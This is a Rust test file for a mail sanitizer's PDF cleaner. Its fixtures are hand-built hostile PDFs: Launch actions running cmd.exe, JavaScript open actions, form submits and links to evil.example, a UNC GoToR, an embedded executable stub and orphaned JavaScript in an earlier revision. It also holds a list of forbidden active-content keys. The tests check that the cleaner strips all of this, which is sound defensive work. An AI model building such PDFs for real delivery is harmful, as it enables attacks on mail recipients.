//! PDF cleaning (structural CDR), checked with parsers that are not the
//! code under test: qpdf (`--check`, page count, and a QDF rewrite with
//! every stream uncompressed, searched for forbidden keys), poppler's
//! pdftotext (the text survived) and lopdf for the object graph. A missing
//! qpdf or pdftotext fails the tests (Debian packages `qpdf` and
//! `poppler-utils`, installed by scripts/test).

mod pdfs;

use std::collections::BTreeSet;
use std::path::Path;
use std::process::Command;

use base64::Engine;
use lopdf::{Document, Object, ObjectId};
use mukaika_sanitize::attachment::PdfRule;
use mukaika_sanitize::pdf::{Cleaned, Error, FlattenOptions, clean};
use mukaika_sanitize::{Action, Policy, sanitize};

// ---- Inputs written here, byte by byte ----

/// A classic PDF of `objects` (numbered from 1; 1 is the catalog), with an
/// xref table and trailer.
fn raw_pdf(objects: &[&str]) -> Vec<u8> {
    let mut out = b"%PDF-1.7\n".to_vec();
    let numbered: Vec<(u32, &str)> = (1..).zip(objects.iter().copied()).collect();
    let xref = write_objects(&mut out, &numbered);
    write_xref(&mut out, &numbered, xref, objects.len() + 1, None);
    out
}

/// Appends an incremental update to `base` that (re)defines `objects`.
fn with_update(base: &[u8], objects: &[(u32, &str)], size: usize) -> Vec<u8> {
    let prev = startxref(base);
    let mut out = base.to_vec();
    let offsets = write_objects(&mut out, objects);
    write_xref(&mut out, objects, offsets, size, Some(prev));
    out
}

fn write_objects(out: &mut Vec<u8>, objects: &[(u32, &str)]) -> Vec<usize> {
    let mut offsets = Vec::new();
    for (n, body) in objects {
        offsets.push(out.len());
        out.extend_from_slice(format!("{n} 0 obj\n{body}\nendobj\n").as_bytes());
    }
    offsets
}

/// One xref subsection per object, so that updates may skip numbers.
fn write_xref(
    out: &mut Vec<u8>,
    objects: &[(u32, &str)],
    offsets: Vec<usize>,
    size: usize,
    prev: Option<usize>,
) {
    let start = out.len();
    out.extend_from_slice(b"xref\n");
    if prev.is_none() {
        out.extend_from_slice(b"0 1\n0000000000 65535 f \n");
    }
    for ((n, _), offset) in objects.iter().zip(offsets) {
        out.extend_from_slice(format!("{n} 1\n{offset:010} 00000 n \n").as_bytes());
    }
    let prev = prev.map(|p| format!(" /Prev {p}")).unwrap_or_default();
    out.extend_from_slice(
        format!("trailer\n<< /Size {size} /Root 1 0 R{prev} >>\nstartxref\n{start}\n%%EOF\n")
            .as_bytes(),
    );
}

fn startxref(pdf: &[u8]) -> usize {
    let text = String::from_utf8_lossy(pdf);
    let at = text.rfind("startxref").unwrap();
    text[at + 9..]
        .split_whitespace()
        .next()
        .unwrap()
        .parse()
        .unwrap()
}

fn stream(content: &str) -> String {
    format!(
        "<< /Length {} >>\nstream\n{content}\nendstream",
        content.len()
    )
}

const TEXT: &str = "BT /F1 18 Tf 72 720 Td (VISIBLE TEXT STAYS) Tj ET";

/// Every action and annotation that must go, on two pages, beside the ones
/// that may stay (a GoTo link, a NextPage button).
fn actions_document() -> Vec<u8> {
    let content = stream(TEXT);
    raw_pdf(&[
        /* 1 */
        "<< /Type /Catalog /Pages 2 0 R /Names << /JavaScript << /Names [(a) 9 0 R] >> >> \
         /AcroForm << /Fields [12 0 R] /XFA 14 0 R >> /URI << /Base (https://evil.example/) >> >>",
        /* 2 */ "<< /Type /Pages /Kids [3 0 R 4 0 R] /Count 2 >>",
        /* 3 */
        "<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 5 0 R \
         /Resources << /Font << /F1 6 0 R >> >> /Annots [7 0 R 8 0 R 10 0 R 11 0 R 12 0 R 15 0 R] >>",
        /* 4 */
        "<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 5 0 R \
         /Resources << /Font << /F1 6 0 R >> >> /Annots [16 0 R 17 0 R 18 0 R] \
         /AA << /O << /S /Launch /F (cmd.exe) >> >> >>",
        /* 5 */ &content,
        /* 6 */ "<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
        /* 7 */
        "<< /Type /Annot /Subtype /Link /Rect [0 0 10 10] \
         /A << /S /Launch /Win << /F (cmd.exe) /P (/c calc) >> >> >>",
        /* 8 */
        "<< /Type /Annot /Subtype /Link /Rect [0 20 10 30] /A << /S /URI /URI (https://evil.example/x) >> >>",
        /* 9 */ "<< /S /JavaScript /JS (app.alert('named')) >>",
        /* 10 */
        "<< /Type /Annot /Subtype /Link /Rect [0 40 10 50] /A << /S /GoToR /F (\\\\\\\\evil\\\\share\\\\x.pdf) /D [0 /Fit] >> >>",
        /* 11 */
        "<< /Type /Annot /Subtype /FileAttachment /Rect [0 60 10 70] /FS << /Type /Filespec /F (a.exe) \
         /EF << /F 13 0 R >> >> >>",
        /* 12 */
        "<< /Type /Annot /Subtype /Widget /FT /Btn /T (send) /Rect [0 80 10 90] \
         /A << /S /SubmitForm /F << /FS /URL /F (https://evil.example/post) >> >> >>",
        /* 13 */ "<< /Type /EmbeddedFile /Length 10 >>\nstream\nMZ-payload\nendstream",
        /* 14 */ "<< /Length 22 >>\nstream\n<xdp:xdp>XFA</xdp:xdp>\nendstream",
        /* 15 */
        "<< /Type /Annot /Subtype /RichMedia /Rect [0 100 10 110] /RichMediaContent << >> >>",
        /* 16 */
        "<< /Type /Annot /Subtype /Link /Rect [0 0 10 10] \
         /A << /S /GoTo /D [3 0 R /Fit] /Next << /S /JavaScript /JS (app.alert('next')) >> >> >>",
        /* 17 */
        "<< /Type /Annot /Subtype /Link /Rect [0 20 10 30] /A << /S /Named /N /NextPage >> >>",
        /* 18 */
        "<< /Type /Annot /Subtype /Link /Rect [0 40 10 50] /A << /S /ImportData /F (data.fdf) >> >>",
    ])
}

/// One page; its first revision opens with JavaScript, the second (an
/// incremental update) rewrites the catalog without it, leaving the action
/// and an embedded file behind as orphans in the file.
fn updated_document() -> Vec<u8> {
    let content = stream(TEXT);
    let base = raw_pdf(&[
        /* 1 */ "<< /Type /Catalog /Pages 2 0 R /OpenAction 5 0 R >>",
        /* 2 */ "<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        /* 3 */
        "<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R \
         /Resources << /Font << /F1 6 0 R >> >> >>",
        /* 4 */ &content,
        /* 5 */ "<< /S /JavaScript /JS (app.alert('old revision')) >>",
        /* 6 */ "<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
        /* 7 */ "<< /Length 13 >>\nstream\nORPHAN-SECRET\nendstream",
    ]);
    with_update(&base, &[(1, "<< /Type /Catalog /Pages 2 0 R >>")], 8)
}

// ---- Independent checks ----

fn tool(name: &str, args: &[&str], input: &[u8]) -> (bool, Vec<u8>) {
    let dir = tempfile::tempdir().unwrap();
    let file = dir.path().join("in.pdf");
    std::fs::write(&file, input).unwrap();
    let output = Command::new(name)
        .args(args)
        .arg(&file)
        .args(if name == "qpdf" && args.contains(&"--qdf") {
            &["-"][..]
        } else {
            &[][..]
        })
        .output()
        .unwrap_or_else(|e| {
            panic!("{name} not found ({e}): install qpdf and poppler-utils, as scripts/test does")
        });
    (output.status.success(), output.stdout)
}

/// qpdf reads the file without a warning, and its uncompressed rewrite
/// holds none of `forbidden`.
fn assert_qpdf_clean(pdf: &[u8], forbidden: &[&str]) {
    let (ok, out) = tool("qpdf", &["--check"], pdf);
    assert!(ok, "qpdf --check: {}", String::from_utf8_lossy(&out));
    let (ok, qdf) = tool(
        "qpdf",
        &[
            "--qdf",
            "--object-streams=disable",
            "--stream-data=uncompress",
        ],
        pdf,
    );
    assert!(ok, "qpdf --qdf failed");
    let qdf = String::from_utf8_lossy(&qdf);
    for word in forbidden {
        // A whole name: /Next, not /NextPage.
        let whole = qdf.match_indices(word).any(|(at, _)| {
            !qdf[at + word.len()..].starts_with(|c: char| c.is_ascii_alphanumeric())
        });
        assert!(!whole, "{word} is still in:\n{qdf}");
    }
}

fn qpdf_pages(pdf: &[u8]) -> usize {
    let (ok, out) = tool("qpdf", &["--show-npages"], pdf);
    assert!(ok);
    String::from_utf8_lossy(&out).trim().parse().unwrap()
}

fn pdftotext(pdf: &[u8]) -> String {
    let dir = tempfile::tempdir().unwrap();
    let file = dir.path().join("in.pdf");
    std::fs::write(&file, pdf).unwrap();
    let output = Command::new("pdftotext")
        .arg(&file)
        .arg("-")
        .output()
        .expect("pdftotext (poppler-utils) not found: install it, as scripts/test does");
    assert!(output.status.success(), "pdftotext failed");
    String::from_utf8(output.stdout).unwrap()
}

/// Every object lopdf finds in the file is reached from the trailer, and
/// the file has one revision.
fn assert_no_orphans(pdf: &[u8]) {
    let doc = Document::load_mem(pdf).expect("lopdf reads the output");
    assert_eq!(doc.xref_section_count, 1, "one revision");
    assert_eq!(count(pdf, b"startxref"), 1);
    let mut seen = BTreeSet::new();
    let mut todo = Vec::new();
    refs(&Object::Dictionary(doc.trailer.clone()), &mut todo);
    while let Some(id) = todo.pop() {
        if seen.insert(id) {
            refs(doc.objects.get(&id).unwrap_or(&Object::Null), &mut todo);
        }
    }
    let all: BTreeSet<ObjectId> = doc.objects.keys().copied().collect();
    assert_eq!(all, seen, "unreachable objects");
}

fn refs(object: &Object, out: &mut Vec<ObjectId>) {
    match object {
        Object::Reference(id) => out.push(*id),
        Object::Array(items) => items.iter().for_each(|o| refs(o, out)),
        Object::Dictionary(dict) => dict.iter().for_each(|(_, o)| refs(o, out)),
        Object::Stream(s) => s.dict.iter().for_each(|(_, o)| refs(o, out)),
        _ => {}
    }
}

fn count(haystack: &[u8], needle: &[u8]) -> usize {
    haystack
        .windows(needle.len())
        .filter(|w| *w == needle)
        .count()
}

fn cleaned(input: &[u8]) -> Cleaned {
    clean(input, &FlattenOptions::default()).expect("a cleaned PDF")
}

fn reasons(out: &Cleaned) -> BTreeSet<(&str, &str)> {
    out.removed
        .iter()
        .map(|r| (r.place.as_str(), r.reason))
        .collect()
}

/// Keys and names of active or hidden content, as they appear in QDF.
const ACTIVE: [&str; 19] = [
    "/JavaScript",
    "/JS",
    "/OpenAction",
    "/AA",
    "/Launch",
    "/URI",
    "/GoToR",
    "/SubmitForm",
    "/ImportData",
    "/AcroForm",
    "/XFA",
    "/EmbeddedFile",
    "/EF",
    "/FileAttachment",
    "/Filespec",
    "/RichMedia",
    "/Metadata",
    "/Next",
    "app.alert",
];

// ---- Tests ----

#[test]
fn actions_annotations_and_forms_are_removed_and_the_text_stays() {
    let input = actions_document();
    let out = cleaned(&input);
    assert_eq!(out.pages, 2);
    assert_qpdf_clean(&out.pdf, &ACTIVE);
    assert_qpdf_clean(
        &out.pdf,
        &["evil.example", "cmd.exe", "MZ-payload", "xdp:xdp"],
    );
    assert_eq!(qpdf_pages(&out.pdf), 2);
    let text = pdftotext(&out.pdf);
    assert_eq!(text.matches("VISIBLE TEXT STAYS").count(), 2, "{text}");
    // The in-document moves stay: a GoTo link and a NextPage button.
    let (_, qdf) = tool("qpdf", &["--qdf", "--object-streams=disable"], &out.pdf);
    let qdf = String::from_utf8_lossy(&qdf);
    assert!(qdf.contains("/S /GoTo"), "{qdf}");
    assert!(qdf.contains("/N /NextPage"), "{qdf}");
    assert!(qdf.contains("/Font"), "fonts stay");
    let expected: BTreeSet<(&str, &str)> = [
        ("document", "pdf-javascript"),
        ("document", "pdf-form"),
        ("document", "pdf-link"),
        ("page 1", "pdf-launch"),
        ("page 1", "pdf-link"),
        ("page 1", "pdf-embedded-file"),
        ("page 1", "pdf-form"),
        ("page 1", "pdf-multimedia"),
        ("page 2", "pdf-auto-action"),
        ("page 2", "pdf-form"),
        ("page 2", "pdf-javascript"),
    ]
    .into();
    assert_eq!(reasons(&out), expected);
    assert_no_orphans(&out.pdf);
}

/// The shared fixture of the flatten tests: OpenAction, document and page
/// AA, a URI link, an embedded file, an AcroForm whose widget has AA, an
/// outline, Info and XMP.
#[test]
fn the_active_content_fixture_is_cleaned() {
    let input = pdfs::active_content_document();
    let out = cleaned(&input);
    assert_qpdf_clean(&out.pdf, &ACTIVE);
    assert_qpdf_clean(&out.pdf, &["Secret title", "/Info", "invoice.exe"]);
    let text = pdftotext(&out.pdf);
    assert!(text.contains("sanitization"), "{text}");
    // The field's widget stays, inert, with its appearance, so its value
    // still shows.
    let doc = Document::load_mem(&out.pdf).unwrap();
    let widget = doc
        .objects
        .values()
        .filter_map(|o| o.as_dict().ok())
        .find(|d| d.get(b"Subtype").and_then(Object::as_name).ok() == Some(b"Widget"))
        .expect("the widget stays");
    assert!(widget.has(b"AP") && !widget.has(b"AA") && !widget.has(b"A"));
    let reasons = reasons(&out);
    for expected in [
        ("document", "pdf-auto-action"),
        ("document", "pdf-embedded-file"),
        ("document", "pdf-form"),
        ("page 1", "pdf-auto-action"),
        ("page 1", "pdf-link"),
    ] {
        assert!(reasons.contains(&expected), "{expected:?} in {reasons:?}");
    }
    assert_no_orphans(&out.pdf);
}

#[test]
fn earlier_revisions_and_orphans_do_not_survive() {
    let input = updated_document();
    // The input really holds the old revision, and lopdf loads its objects.
    assert!(count(&input, b"JavaScript") > 0);
    let loaded = Document::load_mem(&input).unwrap();
    assert_eq!(loaded.xref_section_count, 2);
    assert!(loaded.objects.contains_key(&(5, 0)));
    let out = cleaned(&input);
    for word in [
        &b"JavaScript"[..],
        b"app.alert",
        b"ORPHAN-SECRET",
        b"OpenAction",
    ] {
        assert_eq!(
            count(&out.pdf, word),
            0,
            "{}",
            String::from_utf8_lossy(word)
        );
    }
    assert_no_orphans(&out.pdf);
    assert_qpdf_clean(&out.pdf, &ACTIVE);
    assert!(pdftotext(&out.pdf).contains("VISIBLE TEXT STAYS"));
    // Nothing active was in the live revision: nothing to report.
    assert_eq!(out.removed, []);
}

#[test]
fn an_empty_user_password_is_opened_and_the_output_is_not_encrypted() {
    let input = data("encrypted-owner-password-only.pdf");
    let out = cleaned(&input);
    assert_eq!(out.pages, 1);
    let (ok, show) = tool("qpdf", &["--show-encryption"], &out.pdf);
    assert!(ok);
    assert!(
        String::from_utf8_lossy(&show).contains("File is not encrypted"),
        "{}",
        String::from_utf8_lossy(&show)
    );
    assert_qpdf_clean(&out.pdf, &["/Encrypt"]);
    let text = pdftotext(&out.pdf);
    assert!(text.contains("sanitization"), "{text}");
}

#[test]
fn a_real_user_password_is_held() {
    let input = data("encrypted-user-password.pdf");
    let err = clean(&input, &FlattenOptions::default()).unwrap_err();
    assert_eq!(err, Error::PasswordProtected);
    let out = sanitize(&mail_with_pdf("secret.pdf", &input), &clean_policy());
    let part = &out.report.parts[1];
    assert_eq!(
        (part.action, part.reason.as_str()),
        (Action::Held, "pdf-password")
    );
}

#[test]
fn limits_refuse_with_their_reasons() {
    let pages = pdfs::text_document(3);
    let few_pages = FlattenOptions {
        max_pages: 2,
        ..FlattenOptions::default()
    };
    assert_eq!(
        clean(&pages, &few_pages).unwrap_err(),
        Error::TooManyPages(3)
    );
    let few_objects = FlattenOptions {
        max_objects: 5,
        ..FlattenOptions::default()
    };
    let err = clean(&pages, &few_objects).unwrap_err();
    assert!(matches!(err, Error::TooManyObjects(n) if n > 5), "{err:?}");
    assert_eq!(err.reason(), "pdf-too-many-objects");
    let err = clean(b"%PDF-1.7\ngarbage", &FlattenOptions::default()).unwrap_err();
    assert_eq!(err.reason(), "pdf-broken");
    let no_pages = raw_pdf(&[
        "<< /Type /Catalog /Pages 2 0 R >>",
        "<< /Type /Pages /Kids [] /Count 0 >>",
    ]);
    assert_eq!(
        clean(&no_pages, &FlattenOptions::default())
            .unwrap_err()
            .reason(),
        "pdf-broken"
    );
}

/// The hand-made traps of the flatten tests: each returns, soon, and an
/// output has no orphan.
#[test]
fn hostile_inputs_give_a_result_quickly() {
    let dir = Path::new(env!("CARGO_MANIFEST_DIR")).join("tests/hostile_pdfs");
    let mut seen = 0;
    for entry in std::fs::read_dir(&dir).unwrap() {
        let path = entry.unwrap().path();
        if path.extension().is_none_or(|e| e != "pdf") {
            continue;
        }
        let started = std::time::Instant::now();
        if let Ok(out) = clean(&std::fs::read(&path).unwrap(), &FlattenOptions::default()) {
            assert_no_orphans(&out.pdf);
        }
        assert!(started.elapsed().as_secs() < 10, "{path:?} took too long");
        seen += 1;
    }
    assert!(seen >= 4);
}

// ---- Through the mail core ----

fn clean_policy() -> Policy {
    let policy: Policy = toml::from_str("[attachments]\npdf = \"clean\"").unwrap();
    assert_eq!(policy.attachments.pdf, PdfRule::Clean);
    policy
}

fn mail_with_pdf(name: &str, pdf: &[u8]) -> Vec<u8> {
    let b64 = base64::engine::general_purpose::STANDARD.encode(pdf);
    format!(
        "From: a@example.com\r\nTo: b@example.jp\r\nSubject: pdf\r\nDate: Thu, 14 Nov 2024 10:30:00 +0900\r\n\
         MIME-Version: 1.0\r\nContent-Type: multipart/mixed; boundary=z\r\n\r\n\
         --z\r\nContent-Type: text/plain; charset=utf-8\r\n\r\nBODY-TEXT\r\n\
         --z\r\nContent-Type: application/pdf; name=\"{name}\"\r\nContent-Transfer-Encoding: base64\r\n\r\n{b64}\r\n--z--\r\n"
    )
    .into_bytes()
}

#[test]
fn a_profile_that_cleans_delivers_the_pdf_and_lists_what_went() {
    let out = sanitize(
        &mail_with_pdf("報告.pdf", &actions_document()),
        &clean_policy(),
    );
    let part = &out.report.parts[1];
    assert_eq!(
        (part.action, part.reason.as_str()),
        (Action::Cleaned, "pdf-cleaned")
    );
    let parsed = mail_parser::MessageParser::new()
        .parse(&out.message)
        .unwrap();
    let body = parsed.body_text(0).unwrap().into_owned();
    assert!(
        body.contains("添付ファイル「報告.pdf」はスクリプト"),
        "{body}"
    );
    assert!(
        body.contains(
            "添付ファイル「報告.pdf/page 1」を削除しました（ファイルやプログラムを起動する動作）"
        ),
        "{body}"
    );
    assert!(
        body.contains("Attachment \"報告.pdf/document\" was removed (a script (JavaScript))"),
        "{body}"
    );
    let attachment = parsed.attachment(0).expect("the PDF is delivered");
    assert_eq!(
        pdftotext(attachment.contents())
            .matches("VISIBLE TEXT STAYS")
            .count(),
        2
    );
    // The output verifier lets it cross where the profile cleans PDFs,
    // and only there.
    let allow = mukaika_verify::Allow { cleaned_pdfs: true };
    assert_eq!(mukaika_verify::verify_with(&out.message, &allow), Ok(()));
    assert!(mukaika_verify::verify(&out.message).is_err());
}

/// Every fixture, cleaned and mailed, passes the output verifier.
#[test]
fn cleaned_outputs_pass_the_output_verifier() {
    let allow = mukaika_verify::Allow { cleaned_pdfs: true };
    for input in [
        actions_document(),
        updated_document(),
        pdfs::active_content_document(),
        data("encrypted-owner-password-only.pdf"),
        pdfs::photo_document(1),
    ] {
        let out = sanitize(&mail_with_pdf("a.pdf", &input), &clean_policy());
        assert_eq!(out.report.parts[1].reason, "pdf-cleaned");
        assert_eq!(mukaika_verify::verify_with(&out.message, &allow), Ok(()));
    }
}

fn data(name: &str) -> Vec<u8> {
    std::fs::read(
        Path::new(env!("CARGO_MANIFEST_DIR"))
            .join("tests/data")
            .join(name),
    )
    .unwrap()
}

/// The `clean_pdf` fuzz seeds (fuzz/seed.sh): the fixtures above, beside
/// the flatten seeds that seed.sh copies in.
#[test]
#[ignore]
fn write_fuzz_seeds() {
    let seeds = Path::new(env!("CARGO_MANIFEST_DIR")).join("fuzz/corpus/clean_pdf");
    std::fs::create_dir_all(&seeds).unwrap();
    for (name, bytes) in [
        ("actions.pdf", actions_document()),
        ("updated.pdf", updated_document()),
    ] {
        std::fs::write(seeds.join(name), bytes).unwrap();
    }
}
